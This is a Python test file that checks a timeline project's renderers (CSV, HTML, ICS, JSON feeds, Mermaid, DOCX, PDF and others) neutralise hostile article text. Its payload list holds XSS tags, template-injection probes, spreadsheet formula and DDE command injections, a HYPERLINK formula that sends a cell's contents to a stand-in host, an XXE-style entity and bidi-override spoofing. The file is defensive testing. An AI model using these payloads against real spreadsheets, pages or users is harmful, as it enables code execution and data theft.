"""Whatever an article says, no format lets it do anything but be read."""

import csv
import io
import json
import re
from collections.abc import Callable

import docx
import icalendar
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from lxml import etree, html

from tests.chronologies import plain
from timeline.errors import PdfUnavailable
from timeline.model.chronology import Chronology
from timeline.renderers import FORMATS, render
from timeline.renderers.legible import legible

TEXTS = {
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}} {% include 'x' %} ${7*7} <%= 7*7 %>",
    "formula": '=HYPERLINK("http://x.example/?"&A1,"open")',
    "wide formula": "＝cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cdata": "]]><x/><![CDATA[ &xxe; &#60;b&#62;",
    "directions": "\u202egnp.exe\u2066 \u200fright",
    "nul": "a\x00b\x07c\x1b[31md\ud800e",
    "lines": "one\r\nBEGIN:VEVENT\r\nSUMMARY:two\n2024-05-05: three\n    section four\n\n# five\u2028six",
    "marks": "12:30; #tag #58; %%comment %%{init: {}}%% `code` ``` **b** [a](javascript:alert(1)) [x] // c, d\\n",
    "references": "!id.start after !x .end by now: every week",
    "quotes": '"quoted", \'single\', “typographic”, back\\slash"',
    "long word": "a" * 10_000,
    "xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
}


def hostile(text: str) -> Chronology:
    """A chronology that has the text in every place where an article's words come through."""
    return plain(text, title=text, outlet=text, byline=text, url=f"http://x.example/{text}")


def benign(text: str) -> Chronology:
    del text
    return hostile("Rain fell.")


def no_markup(fragment: str) -> None:
    """HTML in which nothing runs or loads; what is linked to is the source."""
    tree = html.fragment_fromstring(fragment, create_parent="div")
    assert {element.tag for element in tree.iter()} <= {"div", "p", "a", "em"}
    assert {name for element in tree.iter() for name in element.attrib} <= {"href"}
    assert all(element.get("href", "http:").startswith("http:") for element in tree.iter())


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def check_csv(data: bytes, text: str) -> None:
    (row,) = read_csv(data)
    assert not any(re.match(r"[=+@\t\r\n＝＋－＠]|-(?!\d+$)", cell) for cell in row.values())
    assert row["text"] in {legible(text), f"'{legible(text)}"}


def check_timelinejs(data: bytes, text: str) -> None:
    assert b"<" not in data
    record = json.loads(data)
    no_markup(record["title"]["text"]["headline"])
    (slide,) = record["events"]
    no_markup(slide["text"]["text"])
    no_markup(slide["text"]["headline"])
    assert html.fromstring(f"<p>{slide['text']['headline']}</p>").text_content() == legible(text)


def check_timelinejs_csv(data: bytes, text: str) -> None:
    title, row = read_csv(data)
    cells = [cell for name, cell in (*title.items(), *row.items()) if "Year" not in name]
    assert not any(re.match(r"[=+@\t\r\n＝＋－＠-]", cell) for cell in cells)
    no_markup(row["Text"])
    assert html.fromstring(f"<p>{row['Headline']}</p>").text_content() == legible(text)


def check_ics(data: bytes, text: str) -> None:
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    assert b"\n" not in data.replace(b"\r\n", b"")
    calendar = icalendar.Calendar.from_ical(data)
    (entry,) = calendar.walk("VEVENT")
    assert str(entry["SUMMARY"]) == legible(text)


def check_jsonld(data: bytes, text: str) -> None:
    assert b"<" not in data
    entries, source = json.loads(data)["@graph"]
    assert entries["itemListElement"][0]["item"]["name"] == legible(text)
    assert source["headline"] == legible(text)


def check_mermaid(data: bytes, text: str) -> None:
    lines = data.decode().splitlines()
    assert len(lines) == 5
    assert all(re.fullmatch(r"(?:[\w ,.()'’‘“”/–—-]|#\d+;|: )*", line.replace("accDescr:", "")) for line in lines)
    shown = re.sub(r"#(\d+);", lambda code: chr(int(code[1])), lines[-1].partition(" : ")[2])
    assert shown == legible(text)


def check_markwhen(data: bytes, text: str) -> None:
    lines = data.decode().splitlines()
    assert len(lines) == len(render(benign(text), "markwhen").decode().splitlines())
    joined = lines[3].replace("\u2060", "")
    assert joined == f"2024-01-04: {legible(text)}".replace("\u2060", "")


def check_atom(data: bytes, text: str) -> None:
    feed = etree.fromstring(data)
    space = {"a": "http://www.w3.org/2005/Atom"}
    assert feed.xpath("string(a:title)", namespaces=space) == legible(text)
    (content,) = feed.xpath("a:entry/a:content", namespaces=space)
    no_markup(content.text)


def check_jsonfeed(data: bytes, text: str) -> None:
    assert b"<" not in data
    (item,) = json.loads(data)["items"]
    assert item["title"].endswith(f": {legible(text)}")
    no_markup(item["content_html"])


def check_timeml(data: bytes, text: str) -> None:
    del text
    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False))
    assert [child.tag for child in root] == ["DCT", "TEXT"]
    assert [child.tag for child in root[1]] == ["TIMEX3"]


def check_docx(data: bytes, text: str) -> None:
    shown = [paragraph.text for paragraph in docx.Document(io.BytesIO(data)).paragraphs]
    assert any(legible(text) in line for line in shown)


def check_html(data: bytes, text: str) -> None:
    def moving(data: bytes) -> list[str]:
        """What is no text, our data for search engines left out."""
        page = html.document_fromstring(data.decode())
        found = page.xpath("//script | //img | //iframe | //*[@onerror]")
        linked = [one for one in found if one.get("type") == "application/ld+json"]
        assert all(json.loads(one.text)["@graph"] for one in linked)
        return [html.tostring(one, encoding="unicode") for one in found if one not in linked]

    assert moving(data) == moving(render(benign(text), "html"))


def check_json(data: bytes, text: str) -> None:
    assert json.loads(data)["events"][0]["text"].encode("utf-8", "replace") == text.encode("utf-8", "replace")


def check_md(data: bytes, text: str) -> None:
    del text
    assert b"<script" not in data


CHECKS: dict[str, Callable[[bytes, str], None]] = {
    name.removeprefix("check_").replace("_", "-"): check
    for name, check in list(globals().items())
    if name.startswith("check_")
}


VERBATIM = {"json", "timeml"}
"""Formats that hold a sentence as it stands, for programs that count its characters."""


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize("name", [known.name for known in FORMATS if known.name != "pdf"])
def test_hostile_text_is_inert(name: str, text: str) -> None:
    data = render(hostile(text), name)
    if name in CHECKS:
        CHECKS[name](data, text)
    known = next(known for known in FORMATS if known.name == name)
    if not known.binary:
        shown = data.decode()  # it is UTF-8, and nothing in it turns the reading direction
        assert name in VERBATIM or not set(shown) & set("\x00\x07\x1b\u202e\u2066\u2028")


def test_hostile_text_is_inert_in_pdf() -> None:
    try:
        data = render(hostile(" ".join(text for name, text in TEXTS.items() if name != "long word")), "pdf")
    except PdfUnavailable as lack:
        pytest.skip(str(lack))
    assert data.startswith(b"%PDF")
    assert b"/JavaScript" not in data


def test_every_format_that_programs_read_is_checked() -> None:
    assert {known.name for known in FORMATS if known.module.startswith("exchange.")} <= set(CHECKS)


FAST = [known.name for known in FORMATS if known.module.startswith("exchange.") and not known.binary]
SIGNS = st.text(alphabet="=+-@<>&;:#%`\"'\\/[]{}()!.,|\t\r\n\x00\x85\u2028\u202e\u2060\ufeff\ud800aA1 é٣𝟙", max_size=30)


@pytest.mark.parametrize("name", FAST)
@given(text=SIGNS | st.text(max_size=30))
@settings(max_examples=60, deadline=None)
def test_any_text_is_inert(name: str, text: str) -> None:
    assume(legible(text))
    CHECKS[name](render(hostile(text), name), text)
